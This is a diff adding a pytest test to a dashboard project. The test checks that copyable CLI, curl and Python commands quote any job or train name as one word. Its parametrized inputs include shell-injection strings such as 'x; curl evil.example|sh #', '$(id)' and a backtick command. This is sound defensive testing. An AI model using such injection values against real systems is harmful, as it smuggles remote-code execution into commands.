@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import json
 import re
 import shlex
 from collections.abc import Mapping
 from html import unescape
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote, urlencode
 from uuid import UUID
 
 import click
@@ -405,6 +407,22 @@ def _copied_from(dashboard: Dashboard, role: str, pages: list[str]) -> dict[str,
             eval(python, {"app": dashboard.app, "UUID": UUID})
             found[page] = cli, address.split(PREFIX, 1)[1], python
     return found
+
+
+@pytest.mark.parametrize("name", ["x; curl evil.example|sh #", "$(id)", "`id`", 'it\'s "one"', "--all", "a/b {id}"])
+def test_a_copied_command_takes_any_name_as_one_word(dashboard: Dashboard, name: str) -> None:
+    listed = f"/jobs?{urlencode({'train': name, 'correlation_id': name})}"
+    shown = shlex.split(_copied_from(dashboard, "admin", [listed])[listed][0])
+    assert f"--train={name}" in shown if name.startswith("-") else name in shown
+    with dashboard.visitor("admin") as admin:
+        for action, words in {"hold-train": ["trains", "hold"], "clear-train": ["trains", "clear"]}.items():
+            page = admin.get(f"/do/{action}", params={"key": name}).text
+            cli, curl, python = map(unescape, re.findall(r"<dd><pre>(.*?)</pre>", page)[-3:])
+            typed = shlex.split(cli)[1:]
+            assert typed[:2] == words
+            assert typed[-2:] == ["--", name] if name.startswith("-") else typed[2] == name
+            assert curl.count(quote(name, safe="")) == 1
+            assert python.count(repr(name)) or python.count(json.dumps(name)) == 1
 
 
 def test_a_job_links_to_what_is_in_its_way_and_shows_its_states(dashboard: Dashboard) -> None:
